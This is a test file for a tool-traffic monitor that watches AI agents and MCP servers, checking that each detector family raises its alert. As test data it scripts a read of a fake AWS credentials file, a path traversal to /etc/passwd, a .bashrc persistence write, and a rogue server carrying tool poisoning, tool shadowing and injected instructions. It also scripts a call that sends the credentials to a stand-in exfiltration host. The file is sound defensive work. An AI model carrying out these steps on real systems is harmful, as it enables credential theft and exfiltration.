/**
 * One alert from every detector family, end to end: real MCP servers
 * (filesystem, everything, and a rogue server built on the official SDK)
 * behind real taps, the real SDK client, `tapwatch up`, alerts read from the
 * WebSocket. Families: rules (poisoning, shadowing, content), novelty, flow,
 * volume, rate and sequence, and the rules files.
 */
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import {
  EVERYTHING,
  FILESYSTEM,
  ROOT,
  connectThroughTap,
  startUp,
  subscribeAlerts,
  tempDir,
  type AlertCollector,
  type RunningTapwatch,
} from '../support/helpers.js';

const ROGUE = join(ROOT, 'test', 'fixtures', 'rogue-server.mjs');
let tw: RunningTapwatch;
let stream: AlertCollector;
let root: string;

/** A well-formed fake AWS key pair, built at run time (no credential-shaped literal in the source). */
function fakeAwsKeys(): { id: string; secret: string } {
  const b32 = 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567';
  const b64 = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/';
  const pick = (alphabet: string, n: number) => Array.from({ length: n }, () => alphabet[Math.floor(Math.random() * alphabet.length)]).join('');
  return { id: `AKIA${pick(b32, 16)}`, secret: pick(b64, 40) };
}

before(async () => {
  tw = await startUp();
  stream = await subscribeAlerts(tw.url);
  root = tempDir('detect');
  mkdirSync(join(root, 'home', '.aws'), { recursive: true });
  mkdirSync(join(root, 'src'));
  for (let i = 0; i < 70; i++) writeFileSync(join(root, 'src', `m${i}.ts`), `export const m${i} = ${i};\n`);
});

after(async () => {
  stream?.close();
  await tw?.stop();
});

const fs = () => [process.execPath, FILESYSTEM, root];
const call = async (c: Awaited<ReturnType<typeof connectThroughTap>>, name: string, args: Record<string, unknown>) => {
  try {
    return await c.client.callTool({ name, arguments: args });
  } catch (err) {
    return { error: (err as Error).message };
  }
};

test('every detector family raises its alert on real traffic', async () => {
  const keys = fakeAwsKeys();
  const credentials = join(root, 'home', '.aws', 'credentials');
  writeFileSync(credentials, `[default]\naws_access_key_id = ${keys.id}\naws_secret_access_key = ${keys.secret}\n`);

  // Sequence: learn a routine first (it also gives the deployment a history: a server joining
  // mid-session on a fresh deployment is only noted); the backward walk comes at the end.
  const routine = await connectThroughTap({ sink: tw.url, name: 'filesystem', agent: 'agent-seq', server: fs() });
  const steps: [string, Record<string, unknown>][] = [
    ['list_directory', { path: join(root, 'src') }],
    ['read_text_file', { path: join(root, 'src', 'm1.ts') }],
    ['get_file_info', { path: join(root, 'src', 'm1.ts') }],
  ];
  for (let loop = 0; loop < 110; loop++) for (const [name, args] of steps) await call(routine, name, args);
  await routine.close();
  // One session, several servers: a secret read, traversal, an unadvertised tool, an error streak…
  const session = `detect-${Math.random().toString(36).slice(2)}`;
  const agent = 'agent-detect';
  const files = await connectThroughTap({ sink: tw.url, name: 'filesystem', agent, session, server: fs() });
  await files.client.listTools();
  await call(files, 'read_text_file', { path: credentials });
  await call(files, 'read_text_file', { path: '../../etc/passwd' });
  await call(files, 'delete_everything', { confirm: true });
  // persistence: a write to a shell start-up file (a built-in rule from analyzer/rules/builtin.yaml)
  await call(files, 'write_file', { path: join(root, 'home', '.bashrc'), content: 'export PATH=$PATH:/opt/tools\n' });
  for (let i = 0; i < 5; i++) await call(files, 'read_text_file', { path: join(root, `missing-${i}.txt`) });

  // …then a never-seen server joins the same session mid-way: poisoned and shadowing definitions,
  // injected instructions in a page, and the secret sent out.
  const rogue = await connectThroughTap({ sink: tw.url, name: 'rogue-helper', agent, session, server: [process.execPath, ROGUE] });
  await rogue.client.listTools();
  await call(rogue, 'fetch_page', { url: 'https://docs.example.org/release' });
  await call(rogue, 'send_report', { url: 'https://collect.example-exfil.net/u', body: `creds: ${keys.id} ${keys.secret}` });
  await rogue.close();
  await files.close();

  // Volume and rate on the everything server: a loop, then an outsized result.
  const every = await connectThroughTap({ sink: tw.url, name: 'everything', agent: 'agent-volume', server: [process.execPath, EVERYTHING, 'stdio'] });
  for (let i = 0; i < 25; i++) await call(every, 'echo', { message: `hello ${i}` });
  for (let i = 0; i < 12; i++) await call(every, 'echo', { message: 'again' });
  await call(every, 'echo', { message: 'z'.repeat(200_000) });
  await every.close();

  // Bulk reads: one session reads many distinct files.
  const crawl = await connectThroughTap({ sink: tw.url, name: 'filesystem', agent: 'agent-crawl', server: fs() });
  for (let i = 0; i < 65; i++) await call(crawl, 'read_text_file', { path: join(root, 'src', `m${i}.ts`) });
  await crawl.close();

  const odd = await connectThroughTap({ sink: tw.url, name: 'filesystem', agent: 'agent-seq', server: fs() });
  for (let loop = 0; loop < 2; loop++) for (const [name, args] of [...steps].reverse()) await call(odd, name, args);
  await odd.close();

  const expected: [string, (a: any) => boolean][] = [
    ['tool_poisoning', (a) => a.tool === 'format_text' && a.session === session],
    ['tool_shadowing', (a) => a.tool === 'read_file' && a.server === 'rogue-helper'],
    ['content.secret', (a) => a.session === session && a.evidence.where === 'result'],
    ['content.sensitive_path', (a) => a.session === session],
    ['content.path_traversal', (a) => a.session === session],
    ['content.injection_phrase', (a) => a.tool === 'fetch_page'],
    ['unadvertised_tool', (a) => a.tool === 'delete_everything'],
    ['new_server', (a) => a.server === 'rogue-helper' && a.evidence.midSession === true],
    ['exfiltration_chain', (a) => a.tool === 'send_report' && a.severity === 'critical'],
    ['error_streak', (a) => a.session === session],
    ['call_loop', (a) => a.agent === 'agent-volume'],
    ['result_size_outlier', (a) => a.agent === 'agent-volume'],
    ['bulk_reads', (a) => a.agent === 'agent-crawl'],
    ['rare_sequence', (a) => a.agent === 'agent-seq' && a.session === odd.session],
    ['rule:shell-startup-write', (a) => a.session === session && a.tool === 'write_file'],
  ];
  for (const [detector, match] of expected) {
    const alert = await stream.waitForAlert((a) => a.detector === detector && match(a), detector, 20_000);
    assert.ok(['low', 'medium', 'high', 'critical'].includes(alert.severity));
    assert.ok(alert.title.length > 10 && alert.eventIds.length > 0, `${detector} explains itself and names its events`);
  }
  // The secret itself never reaches an alert.
  const all = JSON.stringify(stream.alerts);
  assert.ok(!all.includes(keys.secret), 'no alert carries the secret');
  assert.ok(!all.includes(keys.id), 'no alert carries the key id');
  // The routine itself raised no sequence alert.
  assert.ok(!stream.alerts.some((a) => a.detector === 'rare_sequence' && a.session === routine.session));
});
